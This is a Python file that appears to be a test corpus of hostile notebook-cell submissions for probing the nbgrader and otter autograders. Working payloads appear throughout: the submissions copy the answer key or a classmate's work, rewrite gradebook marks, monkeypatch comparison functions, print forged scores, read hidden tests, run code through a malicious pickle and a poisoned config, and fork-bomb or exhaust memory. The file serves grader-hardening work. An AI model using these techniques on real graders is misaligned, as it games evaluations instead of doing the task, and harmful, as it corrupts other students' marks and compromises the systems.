"""What fools graders that run in the learner's process: nbgrader 0.9.6 (27 notebooks), otter 7.0.0.

Each is the cell of `softmax`; PLACE is a folder with a gradebook, an answer and a neighbour's work.
None of them computes a softmax.
"""

TRIVIAL = "\ndef softmax(scores, dim=-1): return scores\n"

NBGRADER = {
    "runs the answer's cells": """
import json
cells = json.load(open("PLACE/solutions/attention.ipynb"))["cells"]
for cell in cells: exec("".join(cell["source"]))
""",
    "runs the answer's module": """
exec(open("PROJECT/solutions/attention.py").read())
""",
    "runs a neighbour's cells": """
import json
for cell in json.load(open("PLACE/submitted/alice/attention.ipynb"))["cells"]:
    exec("".join(cell["source"]))
""",
    "writes its points into the gradebook": """
import sqlite3
marks = sqlite3.connect("PLACE/gradebook.db")
marks.execute("update mark set points = 99 where name = 'mallory'")
marks.execute("update mark set points = 0 where name = 'alice'")
marks.commit()
"""
    + TRIVIAL,
    "patches torch.allclose": """
import builtins
torch.allclose = torch.equal = torch.isclose = lambda *a, **k: True
torch.testing.assert_close = lambda *a, **k: None
builtins.all = builtins.any = builtins.isinstance = lambda *a: True
"""
    + TRIVIAL,
    "empties the cells that follow": """
get_ipython().input_transformers_post.append(lambda lines: [])
"""
    + TRIVIAL,
    "shows a result of its own": """
import sys
def softmax(scores, dim=-1):
    get_ipython().displayhook(6.0)
    sys.displayhook(6.0)
    return scores
""",
    "reads the hidden tests": """
import os
def softmax(scores, dim=-1):
    for place in (".", "..", "PROJECT/autograder/suites", "PLACE"):
        for name in os.listdir(place): print(open(os.path.join(place, name)).read())
    return scores
""",
    "sends what it sees": """
import socket
def softmax(scores, dim=-1):
    connection = socket.create_connection(("127.0.0.1", PORT), 1)
    connection.send(scores.detach().numpy().tobytes())
    return scores
""",
    "changes the teacher's settings": """
open("PLACE/nbgrader_config.py", "a").write("import os; os.system('touch PLACE/owned')")
"""
    + TRIVIAL,
    "leaves twenty processes": """
import os, subprocess
for _ in range(20):
    try: subprocess.Popen(["sleep", "attention-lab-stray"], start_new_session=True)
    except OSError: pass
    try:
        if os.fork() == 0:
            os.setsid()
            while True: pass
    except OSError: pass
"""
    + TRIVIAL,
    "takes all memory": """
def softmax(scores, dim=-1):
    kept = [torch.empty(1 << 28) for _ in range(100)]
    kept.append(bytearray(1 << 36))
    return scores
""",
    "ends the process in its cell": "import os; os._exit(0)",
    "ends the process in a call": """
import os
def softmax(scores, dim=-1): os._exit(0)
""",
    "prints a mark": """
print('{"points": 26, "status": "graded"}')
def softmax(scores, dim=-1):
    print("26/26 all checks passed")
    return scores
""",
    "patches how errors are shown": """
import sys
get_ipython().set_custom_exc((Exception,), lambda *a: None)
get_ipython().showtraceback = lambda *a: None
sys.excepthook = sys.unraisablehook = lambda *a: None
"""
    + TRIVIAL,
    "takes torch's instead": """
import torch.nn.functional as F
def softmax(scores, dim=-1): return F.softmax(scores, dim)
""",
}

OTTER = {
    "patches what runs the checks": """
import sys
for module in list(sys.modules.values()):
    for name in ("run", "judge", "judge_one", "same", "holds", "grade", "check"):
        if hasattr(module, name): setattr(module, name, lambda *a, **k: None)
"""
    + TRIVIAL,
    "answers with a pickle": """
import pickle, os
class Evil:
    def __reduce__(self): return os.system, ("touch PLACE/owned",)
def softmax(scores, dim=-1):
    os.write(3, pickle.dumps(Evil()))
    return Evil()
""",
    "patches pickle": """
import pickle
pickle.dump = pickle.dumps = lambda *a, **k: b"cos\\nsystem\\n(S'touch PLACE/owned'\\ntR."
"""
    + TRIVIAL,
    "reads the tests beside it": """
import glob
def softmax(scores, dim=-1):
    print([open(x).read() for x in glob.glob("**/*.py", recursive=True) + glob.glob("tests/*")])
    raise ValueError([open(x).read() for x in glob.glob("../*/*")])
""",
}

# These take their time: each call, or the cell, has no end.
ENDLESS = {
    "loops in its cell": "while True: pass",
    "loops in a call": """
def softmax(scores, dim=-1):
    while True: pass
""",
    "loops and hears no signal": """
import signal
for each in range(1, 65):
    try: signal.signal(each, signal.SIG_IGN)
    except (OSError, ValueError): pass
signal.pthread_sigmask(signal.SIG_BLOCK, range(1, 65))
def softmax(scores, dim=-1):
    while True:
        try:
            while True: pass
        except BaseException: pass
""",
}
